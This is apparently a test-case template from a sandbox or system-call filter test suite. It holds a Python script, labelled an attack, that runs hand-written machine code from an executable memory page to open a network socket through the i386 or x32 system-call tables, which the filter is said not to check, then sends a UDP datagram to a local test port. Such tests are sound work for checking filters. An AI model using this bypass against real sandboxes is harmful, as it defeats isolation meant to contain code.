# attack: make an AF_INET socket through a system-call table the filter does not read (@ABI@: the
# i386 table through `int 0x80`, or x32 through `syscall` with bit 30 set), then send a UDP datagram
# to the test's port @PORT@ with the native sendto, which nothing filters
import ctypes
import mmap
import socket

_CODE = {
    # push rbx; mov eax, 359 (socket); mov ebx, AF_INET; mov ecx, SOCK_DGRAM; xor edx, edx; int 0x80; pop rbx; ret
    "i386": "53" "b867010000" "bb02000000" "b902000000" "31d2" "cd80" "5b" "c3",
    # mov eax, 0x40000029 (x32 socket); mov edi, AF_INET; mov esi, SOCK_DGRAM; xor edx, edx; syscall; ret
    "x32": "b829000040" "bf02000000" "be02000000" "31d2" "0f05" "c3",
}
_page = mmap.mmap(-1, mmap.PAGESIZE, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
_page.write(bytes.fromhex(_CODE["@ABI@"]))
_fd = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(_page)))()
if _fd < 0:
    raise OSError(-_fd, "the @ABI@ socket call failed")
print("SOCKET-MADE @MARK@", flush=True)
socket.socket(fileno=_fd).sendto(b"datagram @MARK@", ("127.0.0.1", int("@PORT@")))
